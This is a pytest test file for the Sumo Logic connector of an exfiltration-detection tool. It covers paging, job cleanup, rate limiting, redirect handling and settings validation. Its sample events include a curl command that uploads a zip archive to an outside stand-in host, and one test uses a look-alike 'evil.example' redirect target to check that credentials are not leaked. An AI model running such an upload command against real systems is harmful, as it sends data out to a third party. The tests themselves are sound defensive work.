"""Sumo Logic against a server that answers as its documentation says."""

import asyncio
from typing import Any

import pytest

from exfilwatch.errors import ConfigError, SourceError
from exfilwatch.siem import sumo as module
from exfilwatch.siem.registry import open_siem
from exfilwatch.siem.siem import Ask, Clock, Near, Place, Siem
from exfilwatch.siem.sumo import Sumo

from .fake_sumo import FakeSumo
from .fetching import all_of, events, fetched, run
from .loopback import Answer
from .sumo_samples import CURL, MS, T0, client, message


@pytest.fixture
def sumo():
    with FakeSumo() as server:
        yield server


def test_the_messages_of_an_interval_become_events(sumo):
    sumo.records = [message(T0 + n, T0 + n) for n in range(10)]
    (event,) = events(fetched(client(sumo), (T0 + 3_004) * MS, (T0 + 3_005) * MS))
    assert event.fields["CommandLine"] == "curl.exe -T a.zip https://x.example/"
    assert (event.category, event.host) == ("process_creation", "WS1.corp.example")
    assert (event.time, event.ingest_time) == ((T0 + 123) * MS, (T0 + 4) * MS)
    assert sumo.jobs == {}


@pytest.mark.parametrize("clock", Clock)
@pytest.mark.parametrize("ingest", ["searchable", "receipt"])
def test_intervals_that_meet_share_nothing_and_leave_nothing_out(sumo, clock, ingest):
    sumo.records = [message(T0 + n, T0 + n, T0 + n, _n=n) for n in range(8)]
    got = []
    for start in range(T0 * MS, (T0 + 8) * MS, MS):
        got += fetched(client(sumo, ingest=ingest), start, start + MS, clock=clock)
    assert sorted(int(each["_n"]) for each in got) == list(range(8))
    named = {"searchable": "searchableTime", "receipt": "receiptTime"}[ingest]
    assert sumo.created[0]["intervalTimeType"] == (named if clock is Clock.INGEST else "messageTime")
    assert sumo.created[0]["byReceiptTime"] is (clock is Clock.INGEST)


def test_a_record_of_cloud_siem_gets_its_names_back(sumo):
    sumo.records = [
        message(
            metadata_vendor="Microsoft",
            metadata_product="Windows",
            metadata_deviceEventId="Microsoft-Windows-Sysmon/Operational-1",
            objectType="EndpointProcess",
            device_hostname="WS1.corp.example",
            baseImage=CURL,
            commandLine="curl.exe -T a.zip https://x.example/",
            parentCommandLine="cmd.exe /c up.cmd",
            user_username="ann",
            timestamp=T0,
        )
    ]
    (record,) = fetched(client(sumo))
    assert record["commandLine"] == "curl.exe -T a.zip https://x.example/"
    (event,) = events([record])
    assert (event.category, event.fields["ParentCommandLine"]) == ("process_creation", "cmd.exe /c up.cmd")
    assert (event.host, event.ingest_time) == ("WS1.corp.example", (T0 + 2_000) * MS)


def test_fields_that_a_search_extracted_do_not_hide_the_message(sumo):
    sumo.records = [message(process="x", process_name="y", eventid="7")]
    (event,) = events(fetched(client(sumo)))
    assert event.fields["Image"] == CURL


def test_a_text_is_of_the_host_that_sent_it(sumo):
    line = 'type=USER_CMD msg=audit(1764000000.100:41): pid=701 uid=1000 cmd="ls" exe="/usr/bin/sudo"'
    sumo.records = [message(_raw=line, _sourcehost="web1")]
    assert [event.host for event in events(fetched(client(sumo)))] == ["web1"]


def test_messages_come_page_by_page(sumo):
    sumo.records = [message(T0 + n, _n=n) for n in range(25)]
    sumo.largest_page = 7  # less than is asked for: pages have at most 100 MB
    got = fetched(client(sumo, page=10))
    assert sorted(int(each["_n"]) for each in got) == list(range(25))
    asked = [request.query["offset"] for request in sumo.requests if request.path.endswith("/messages")]
    assert asked == ["0", "7", "14", "21"]


def test_each_scope_is_searched_by_itself(sumo):
    fetched(client(sumo, scopes=("_index=sec_record_endpoint", "_sourceCategory=linux/*")))
    assert [body["query"] for body in sumo.created] == ["(_index=sec_record_endpoint)", "(_sourceCategory=linux/*)"]
    assert all(body["requiresRawMessages"] for body in sumo.created)


def test_a_job_is_kept_alive_while_its_pages_are_worked_on(sumo, monkeypatch):
    monkeypatch.setattr(module, "_ALIVE", 0.001)
    sumo.records = [message(T0 + n) for n in range(4)]
    siem = client(sumo, page=2)

    async def slowly() -> int:
        count = 0
        async for batch in siem.fetch(Ask(Clock.INGEST)):
            count += len(batch)
            (job,) = sumo.jobs.values()
            looks = job.looks
            while job.looks < looks + 3:
                await asyncio.sleep(0.001)
        return count

    assert run(siem, slowly()) == 4


def test_a_job_is_deleted_when_nobody_reads_on_or_the_reader_is_cancelled(sumo):
    sumo.records = [message(T0 + n) for n in range(10)]
    siem = client(sumo, page=2)

    async def first() -> None:
        batches = siem.fetch(Ask(Clock.INGEST))
        await anext(batches)
        assert len(sumo.jobs) == 1
        await batches.aclose()  # type: ignore[attr-defined]
        assert sumo.jobs == {}

    async def cancelled() -> None:
        sumo.looks_until_done = 10**6
        reading = asyncio.create_task(all_of(siem, Ask(Clock.INGEST)))
        while not any(job.looks for job in list(sumo.jobs.values())):
            await asyncio.sleep(0.001)
        reading.cancel()
        with pytest.raises(asyncio.CancelledError):
            await reading
        assert sumo.jobs == {}

    run(siem, first())
    run(siem, cancelled())


def test_another_deployment_is_found_and_remembered(sumo):
    with FakeSumo() as first:
        first.moved = sumo.url
        sumo.records = [message()]
        siem = client(first)
        assert len(run(siem, all_of(siem, Ask(Clock.INGEST)))) == 1
        assert len(first.requests) == 1


@pytest.mark.parametrize(
    "where", ["https://api.sumologic.com.evil.example/x", "http://api.eu.sumologic.com/", "", "//x"]
)
def test_the_access_key_is_not_sent_elsewhere(sumo, where):
    sumo.answer = lambda _request: Answer(301, headers={"Location": where})
    with pytest.raises(SourceError, match="is sent on to"):
        fetched(client(sumo))
    assert len(sumo.requests) == 1


def test_a_circle_of_endpoints_ends(sumo):
    sumo.moved = sumo.url
    with pytest.raises(SourceError, match="from endpoint to endpoint"):
        fetched(client(sumo))


def test_there_are_no_more_than_four_requests_a_second(sumo):
    now, naps = 0.0, []

    async def nap(seconds: float) -> None:
        nonlocal now
        naps.append(seconds)
        now += seconds

    siem = Sumo("sl", client(sumo).settings, sleep=nap, clock=lambda: now)  # type: ignore[arg-type]

    async def twice() -> None:
        for _ in range(2):
            await asyncio.gather(*(siem.now() for _ in range(8)))

    run(siem, twice())
    assert len(sumo.requests) == 16
    assert now >= 15 * 0.25


def test_places_are_the_scopes_and_what_is_wrong_with_them(sumo, monkeypatch):
    monkeypatch.setattr(module.time, "time", lambda: T0 / 1000 + 60)
    sumo.records = [message(T0 + n) for n in range(3)]
    sumo.selects = lambda query, _record: "windows" in query
    siem = client(sumo, scopes=("_sourceCategory=windows/*", "_sourceCategory=linux/*"))
    first, second = run(siem, siem.places())
    assert first == Place("_sourceCategory=windows/*", 3)
    assert (second.records, "search filter" in second.problem) == (0, True)


def test_its_clock_is_sumo_logics(sumo):
    sumo.now = T0 / 1000 + 0.7
    siem = client(sumo)
    assert run(siem, siem.now()) == T0 * MS


@pytest.mark.parametrize(
    ("change", "said"),
    [
        ({"access_id": ""}, "access_id"),
        ({"scopes": []}, "scopes"),
        ({"scopes": ["a | count"]}, "give a condition"),
        ({"scopes": ['"a']}, "give a condition"),
        ({"at_once": 11}, "at_once"),
        ({"page": 10_001}, "page"),
        ({"scope": "x"}, "scope: there is no such setting"),
    ],
)
def test_settings_that_are_wrong_are_told_by_name(change, said):
    configured = {"kind": "sumo", "access_id": "id", "access_key": "s3cr3t", "scopes": ["x"], **change}
    with pytest.raises(ConfigError, match=said) as error:
        open_siem("sl", configured)
    assert "s3cr3t" not in str(error.value)


def test_it_is_a_siem_and_an_endpoint_may_be_given_as_it_is_listed():
    configured = {"kind": "sumo", "access_id": "id", "access_key": "s3cr3t", "scopes": "a, b"}
    for url in (
        "https://api.eu.sumologic.com/api/",
        "https://api.eu.sumologic.com/api/v1",
        "https://api.eu.sumologic.com",
    ):
        siem = open_siem("sl", {**configured, "url": url})
        assert isinstance(siem, Siem)
        assert siem.settings.url == "https://api.eu.sumologic.com"
        assert "s3cr3t" not in repr(siem.settings)
        asyncio.run(siem.close())


def test_rules_are_asked_for_as_pushdown_says(sumo, monkeypatch):
    monkeypatch.setattr("exfilwatch.siem.queries.sumo.condition", lambda rules: f"| where c={len(rules)}")
    monkeypatch.setattr("exfilwatch.siem.queries.sumo.score", lambda _rule: "| where s>5")
    rules: Any = ("one", "two")
    expected = {"off": ["(x)"], "candidates": ["(x) | where c=2"], "score": ["(x) | where c=1 | where s>5"] * 2}
    for pushdown, queries in expected.items():
        sumo.created.clear()
        siem = client(sumo, pushdown=pushdown, scopes=("x",))
        fetched(siem, rules=rules)
        assert [body["query"] for body in sumo.created] == queries
        assert siem.query(rules) == "\n".join(queries)


def test_a_near_search_is_of_its_hosts_and_spans(sumo):
    near = (Near("WS1", T0 * MS, T0 * MS + 1), Near("ws2.corp", (T0 + 9) * MS, (T0 + 90) * MS))
    fetched(client(sumo, scopes=("x",)), near=near)
    (body,) = sumo.created
    assert (body["from"], body["to"], body["intervalTimeType"]) == (str(T0), str(T0 + 91), "messageTime")
    assert body["query"] == (
        '(x) (_sourceHost="WS1" or "WS1" or _sourceHost="ws2.corp" or "ws2.corp") | where'
        f" (_messageTime >= {T0} and _messageTime <= {T0})"
        f" or (_messageTime >= {T0 + 9} and _messageTime <= {T0 + 90})"
    )
